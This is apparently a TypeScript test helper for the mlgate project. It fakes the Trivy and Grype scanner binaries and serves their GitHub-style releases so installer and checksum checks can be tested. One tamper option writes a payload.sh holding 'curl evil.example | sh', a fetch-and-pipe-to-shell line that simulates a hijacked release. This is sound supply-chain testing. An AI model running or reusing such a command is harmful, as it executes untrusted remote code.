/**
 * A STAND-IN for the Trivy and Grype binaries, which cannot be downloaded here, and a local HTTP server
 * laid out like their GitHub releases (`/v<version>/<asset>` and `<scanner>_<version>_checksums.txt`).
 *
 * The stand-in honours the command-line contract mlgate relies on, as the scanners document it:
 *  - `trivy --version` / `grype version` print `Version: x.y.z`;
 *  - `trivy image --download-db-only --cache-dir D [--db-repository R]` writes D/db/trivy.db and
 *    D/db/metadata.json ({"Version":2,"UpdatedAt":...}); `grype db update` (GRYPE_DB_UPDATE_URL,
 *    GRYPE_DB_CACHE_DIR) writes the database, and `grype db status -o json` prints {"built": ...};
 *  - a scan writes the report to `--output` (Trivy) or `--file` (Grype): the report it writes is a REAL
 *    scanner report from ../shared/fixtures/scanners (STANDIN_REPORT);
 *  - an image that does not exist fails with the scanner's own message.
 * Every invocation's argv is appended to STANDIN_LOG, one JSON array per line, for tests to assert on.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RELEASES } from '../../src/scan/install.js';
import type { Scanner } from '../../src/scan/reports.js';

const SCRIPT = String.raw`#!/usr/bin/env node
const fs = require('node:fs');
const path = require('node:path');
const scanner = __SCANNER__;
const version = __VERSION__;
const argv = process.argv.slice(2);
if (process.env.STANDIN_LOG) fs.appendFileSync(process.env.STANDIN_LOG, JSON.stringify(argv) + '\n');
const flag = (name) => { const i = argv.indexOf(name); return i < 0 ? undefined : argv[i + 1]; };
const fail = (message) => { process.stderr.write(message + '\n'); process.exit(1); };
const built = process.env.STANDIN_DB_BUILT || new Date(Date.now() - 2 * 3600e3).toISOString();
if (argv[0] === '--version' || argv[0] === 'version') {
  process.stdout.write(scanner === 'trivy' ? 'Version: ' + version + '\n' : 'Application:   grype\nVersion:       ' + version + '\n');
  process.exit(0);
}
if (scanner === 'trivy' && argv.includes('--download-db-only')) {
  const repo = flag('--db-repository') || 'mirror.gcr.io/aquasec/trivy-db:2';
  if (/broken/.test(repo)) fail('FATAL\tinit error: DB error: failed to download vulnerability DB: OCI repository error: GET https://' + repo + ': unexpected status code 404');
  const db = path.join(flag('--cache-dir'), 'db');
  fs.mkdirSync(db, { recursive: true });
  fs.writeFileSync(path.join(db, 'trivy.db'), 'stand-in database from ' + repo);
  fs.writeFileSync(path.join(db, 'metadata.json'), JSON.stringify({ Version: 2, NextUpdate: built, UpdatedAt: built, DownloadedAt: new Date().toISOString() }));
  process.exit(0);
}
if (scanner === 'grype' && argv[0] === 'db') {
  const dir = process.env.GRYPE_DB_CACHE_DIR;
  const file = path.join(dir, '6', 'vulnerability.db');
  if (argv[1] === 'update') {
    if (/broken/.test(process.env.GRYPE_DB_UPDATE_URL || '')) fail('failed to update vulnerability DB: unable to get listing: 404 Not Found');
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, built);
    process.exit(0);
  }
  if (argv[1] === 'status') {
    if (!fs.existsSync(file)) fail('failed to get DB status: database does not exist');
    process.stdout.write(JSON.stringify({ schemaVersion: 'v6.0.2', built: fs.readFileSync(file, 'utf8'), path: file, valid: true }));
    process.exit(0);
  }
}
const output = flag(scanner === 'trivy' ? '--output' : '--file');
if (scanner === 'trivy' && argv.includes('--skip-db-update') && !fs.existsSync(path.join(flag('--cache-dir'), 'db', 'trivy.db')))
  fail('FATAL\tinit error: DB error: --skip-db-update cannot be specified on the first run');
const target = argv[argv.length - 1];
if (/does-not-exist/.test(argv.join(' ')))
  fail(scanner === 'trivy'
    ? 'FATAL\tFatal error\trun error: image scan error: scan error: unable to initialize a scan service: unable to initialize an image scan service: unable to find the specified image "' + target + '" in ["docker" "containerd" "podman" "remote"]'
    : 'failed to catalog: could not fetch image "' + target + '": unable to use OciRegistry source: failed to get image descriptor from registry: GET https://ghcr.io/v2/' + target + '/manifests/latest: MANIFEST_UNKNOWN');
fs.writeFileSync(output, fs.readFileSync(process.env.STANDIN_REPORT));
`;

/** Writes the stand-in binary as `<dir>/<scanner>` and returns its path. */
export function writeStandInScanner(dir: string, scanner: Scanner, version: string): string {
  mkdirSync(dir, { recursive: true });
  const path = join(dir, scanner);
  writeFileSync(
    path,
    SCRIPT.replace('__SCANNER__', JSON.stringify(scanner)).replace('__VERSION__', JSON.stringify(version)),
  );
  chmodSync(path, 0o755);
  return path;
}

export interface FakeRelease {
  /** The directory served: `<root>/v<version>/...`. */
  root: string;
  asset: string;
  sha256: string;
}

/**
 * A release-shaped directory for this platform: the archive (holding the stand-in at its top level, as
 * the real archives hold the binary) and the checksums file. `tamper: 'archive'` changes the archive
 * after its checksum was listed; `listed` overrides the digest the checksums file gives.
 */
export function fakeRelease(
  scanner: Scanner,
  version: string,
  options: { tamper?: 'archive'; listed?: string } = {},
): FakeRelease {
  const root = mkdtempSync(join(tmpdir(), `mlgate-release-${scanner}-`));
  const dir = join(root, `v${version}`);
  const staging = join(root, 'staging');
  writeStandInScanner(staging, scanner, version);
  writeFileSync(join(staging, 'README.md'), 'stand-in release archive for mlgate tests\n');
  mkdirSync(dir, { recursive: true });
  const asset = RELEASES[scanner].asset(version, process.platform, process.arch)!;
  const archive = join(dir, asset);
  execFileSync('tar', ['-czf', archive, '-C', staging, scanner, 'README.md']);
  const sha256 = createHash('sha256').update(readFileSync(archive)).digest('hex');
  const checksums = [
    `${'0'.repeat(64)}  ${scanner}_${version}_other-platform.tar.gz`,
    `${options.listed ?? sha256}  ${asset}`,
  ];
  writeFileSync(join(dir, RELEASES[scanner].checksums(version)), `${checksums.join('\n')}\n`);
  if (options.tamper === 'archive') {
    // Same archive, one more file: what a hijacked release would serve under the old checksum.
    writeFileSync(join(staging, 'payload.sh'), 'curl evil.example | sh\n');
    execFileSync('tar', ['-czf', archive, '-C', staging, scanner, 'README.md', 'payload.sh']);
  }
  return { root, asset, sha256 };
}
